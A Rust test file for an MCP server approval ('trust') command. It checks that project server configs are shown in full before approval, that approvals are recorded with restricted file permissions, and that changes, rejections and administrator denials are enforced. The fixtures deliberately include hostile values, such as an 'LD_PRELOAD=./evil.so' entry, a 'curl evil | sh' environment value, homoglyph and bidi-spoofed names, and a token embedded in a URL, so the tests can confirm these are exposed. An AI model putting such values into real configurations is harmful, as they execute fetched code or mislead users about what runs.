//! `trust`: what is shown, what is recorded, what asks again.

use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;

use insta::assert_snapshot;
use serde_json::{Value, json};
use switchboard_testkit::{Step, read_record};

use crate::support::{Desk, Ran, polite};

async fn run(desk: &Desk, args: &[&str]) -> Ran {
    let mut command = desk.untrusting(args);
    command.env("GITHUB_TOKEN", "hush-hush");
    desk.finish(command).await
}

fn project_file(desk: &Desk, servers: &Value) {
    let text = json!({ "mcpServers": servers }).to_string();
    desk.sandbox.write(".mcp.json", text);
}

#[tokio::test]
async fn what_would_run_is_shown_and_nothing_is_approved_without_an_answer() {
    let desk = Desk::empty();
    desk.sandbox.write_executable("tools/run", "#!/bin/sh\n");
    project_file(
        &desk,
        &json!({
            "mine": {
                "command": "./tools/run",
                "args": ["--root", "${HOME}", "two words", "--token=${GITHUB_TOKEN}"],
                "env": {"LD_PRELOAD": "./evil.so", "API_TOKEN": "sk-literal"},
                "trustAnnotations": true,
            },
            "gone": {"command": "no-such-program\u{202e}", "cwd": "tools"},
            "f\u{430}r": {
                "url": "https://example.com/${GITHUB_TOKEN}",
                "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}", "X-Kind": "plain"},
                "headersHelper": "./tools/helper --now",
            },
        }),
    );
    let ran = run(&desk, &["trust"]).await;
    assert_snapshot!(ran, @r"
        exit 4
        --- stdout
        mine
          from  [sandbox]/project/.mcp.json:1:16
          type  stdio
          command  ./tools/run --root [sandbox]/home 'two words' --token=${GITHUB_TOKEN}
          runs  [sandbox]/project/tools/run
                            a file of this project
          env  LD_PRELOAD=./evil.so
                            API_TOKEN=sk-literal
          trustAnnotations  true
          reads  your variables GITHUB_TOKEN, HOME

        gone
          from  [sandbox]/project/.mcp.json:1:197
          type  stdio
          command  'no-such-program\u{202e}'
                            holds letters beyond ASCII: no-such-program\u{202e}
          runs  nothing: there is no such program
          cwd  [sandbox]/project/tools

        fаr
                            holds letters beyond ASCII: f\u{430}r
          from  [sandbox]/project/.mcp.json:1:249
          type  http or sse
          connects to  https://example.com/${GITHUB_TOKEN}
          headers  Authorization=Bearer ${GITHUB_TOKEN}
                            X-Kind=plain
          runs, too  ./tools/helper --now
          reads  your variables GITHUB_TOKEN
        --- stderr
        error: not approved: mine, gone, fаr; there is nobody to ask
        hint: if that may run: switchboard trust --yes
        ");
    assert!(!ran.to_string().contains("hush"));
    assert_eq!(
        run(&desk, &["trust", "--list", "--json"]).await.json(),
        json!({"approvals": []})
    );
}

#[tokio::test]
async fn an_approved_entry_runs_until_it_changes_and_says_what_changed() {
    let desk = Desk::with([("ant", polite().record("record").into())]);
    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
    let call = ["call", "mcp__ant__echo", "message=hi", "--yes"];
    assert_eq!(run(&desk, &call).await.code, 0);
    let record = read_record(desk.sandbox.project().join("record"));
    assert!(
        record
            .iter()
            .any(|message| message["method"] == "tools/call")
    );
    assert_snapshot!(run(&desk, &["trust", "--revoke", "ant"]).await, @"
        exit 0
        --- stdout
        Taken back for 1 server: ant
        ");
    assert_eq!(run(&desk, &call).await.code, 4);

    project_file(&desk, &json!({"ant": {"command": "true", "args": ["one"]}}));
    run(&desk, &["trust", "--yes"]).await;
    project_file(
        &desk,
        &json!({"ant": {"command": "true", "args": ["two"], "cwd": "/"}}),
    );
    assert_snapshot!(run(&desk, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ○ pending  ant  project  stdio  -  -
            changed since you were asked about it

        1 server of this project is not approved and was not started.
        To see what would run, and approve it: switchboard trust
        ");
    let data = run(&desk, &["trust", "ant", "--yes", "--json"])
        .await
        .json();
    assert_eq!(
        data["servers"][0]["changes"],
        json!([
            {"field": "args", "before": ["one"], "after": ["two"]},
            {"field": "cwd", "after": "/"},
        ])
    );
    assert_eq!(data["servers"][0]["decision"], "approved");
}

#[tokio::test]
async fn a_rejected_server_has_failed_and_stays_so() {
    let desk = Desk::with([("ant", polite().on_start([Step::count("started")]).into())]);
    assert_eq!(run(&desk, &["trust", "ant", "--reject"]).await.code, 0);
    assert_snapshot!(run(&desk, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ✗ failed  ant  project  stdio  -  -
            rejected by you
            hint: to be asked again: switchboard trust ant
        ");
    // Nor does it wait for an answer any more.
    assert_snapshot!(run(&desk, &["trust"]).await, @"
        exit 0
        --- stdout
        Nothing waits for approval here.
        ");
    assert_eq!(desk.run(&["get", "ant"]).await.code, 4);
    assert!(!desk.sandbox.project().join("started").exists());
    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
    assert_eq!(run(&desk, &["get", "ant"]).await.code, 0);
}

#[tokio::test]
async fn what_needs_no_approval_or_cannot_have_one_is_told() {
    let desk = Desk::empty();
    project_file(
        &desk,
        &json!({"bad": {"command": 5}, "good": {"command": "true"}}),
    );
    let mine = json!({"mcpServers": {"mine": {"command": "true"}}});
    desk.sandbox.write_home(".mcp.json", mine.to_string());
    assert_snapshot!(run(&desk, &["trust", "mine"]).await, @"
        exit 0
        --- stdout
        mine is not the project's (scope user, [sandbox]/home/.mcp.json:1:16): it needs no approval.
        ");
    assert_eq!(run(&desk, &["trust", "bad", "--yes"]).await.code, 3);
    assert_eq!(run(&desk, &["trust", "other"]).await.code, 2);
    assert_eq!(run(&desk, &["trust", "--reject"]).await.code, 2);
    assert_snapshot!(run(&desk, &["trust", "--revoke", "good"]).await, @r#"
        exit 2
        --- stderr
        error: nothing was said about a server "good" of this project
        hint: switchboard trust --list shows what was
        "#);
}

#[tokio::test]
async fn what_the_administrator_forbids_is_not_asked_about() {
    let desk = Desk::with([("ant", polite().on_start([Step::count("started")]).into())]);
    assert_eq!(run(&desk, &["trust", "ant", "--yes"]).await.code, 0);
    let settings = desk.sandbox.root().join("etc/managed-settings.json");
    let denied = json!({"deniedServers": [{"name": "ant"}]});
    desk.sandbox.write(settings, denied.to_string());
    assert_snapshot!(run(&desk, &["trust", "ant"]).await, @r#"
        exit 4
        --- stderr
        error: server ant cannot be approved: not allowed by the administrator: the name "ant" is denied
        hint: ask whoever administers this machine (managed-settings.json)
        "#);
    assert_eq!(
        run(&desk, &["trust"]).await.stdout,
        "Nothing waits for approval here."
    );
    assert_eq!(desk.run(&["get", "ant"]).await.code, 4);
    assert!(!desk.sandbox.project().join("started").exists());
}

#[tokio::test]
async fn a_broken_file_of_approvals_approves_nothing_and_is_left_alone() {
    let desk = Desk::with([("ant", polite().into())]);
    run(&desk, &["trust", "--yes"]).await;
    let path = desk.sandbox.state_home().join("switchboard/trust.json");
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    std::fs::write(&path, "{\"version\": 1, \"approvals\": [").unwrap();
    assert_snapshot!(run(&desk, &["list"]).await, @"
        exit 0
        --- stdout
          STATUS  SERVER  SCOPE  TRANSPORT  TOOLS  TIME
        ○ pending  ant  project  stdio  -  -
            not approved

        1 server of this project is not approved and was not started.
        To see what would run, and approve it: switchboard trust
        --- stderr
        warning: what you approved cannot be understood: EOF while parsing a list at line 1 column 29; no server of a project is approved
         --> [sandbox]/home/.local/state/switchboard/trust.json
          = hint: move [sandbox]/home/.local/state/switchboard/trust.json away and approve again what you need
        ");
    assert_snapshot!(run(&desk, &["trust", "--yes"]).await, @"
        exit 3
        --- stderr
        error: what you approved cannot be understood: EOF while parsing a list at line 1 column 29
        hint: move [sandbox]/home/.local/state/switchboard/trust.json away and approve again what you need
        ");
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        "{\"version\": 1, \"approvals\": ["
    );
}

#[tokio::test]
async fn an_answer_that_is_not_typed_at_a_terminal_is_none() {
    let desk = Desk::with([("ant", polite().into())]);
    let mut command = desk.untrusting(&["trust"]);
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    // It may be gone before it reads.
    let _ = std::io::Write::write_all(&mut stdin, b"y\n");
    drop(stdin);
    assert_eq!(child.wait().unwrap().code(), Some(4));
    let list = run(&desk, &["trust", "--list", "--json"]).await;
    assert_eq!(list.json(), json!({"approvals": []}));
}

#[tokio::test]
async fn what_decides_what_runs_is_never_masked_and_cannot_pass_for_the_page() {
    let desk = Desk::empty();
    let package = "hf_abcdefghijklmnopqrstuvwxyz0123456789";
    project_file(
        &desk,
        &json!({"a": {
            "command": "true",
            "args": [package, "x          runs   /bin/true", "p\u{430}ckage"],
            "env": {"API_KEY": "curl evil | sh", "P\u{410}TH": "${GITHUB_TOKEN}"},
        }}),
    );
    let page = run(&desk, &["trust"]).await.to_string();
    for seen in [
        package,
        "API_KEY=curl evil | sh",
        "${GITHUB_TOKEN}",
        r"x \u{20}",
        r"beyond ASCII: p\u{430}ckage",
        r"beyond ASCII: P\u{410}TH",
    ] {
        assert!(page.contains(seen), "{seen}: {page}");
    }
    // What is data or kept masks them still.
    let data = run(&desk, &["trust", "--yes", "--json"]).await.to_string();
    let kept = desk.sandbox.state_home().join("switchboard/trust.json");
    for kept in [data, std::fs::read_to_string(kept).unwrap()] {
        assert!(
            !kept.contains(package) && !kept.contains("curl evil"),
            "{kept}"
        );
    }
}
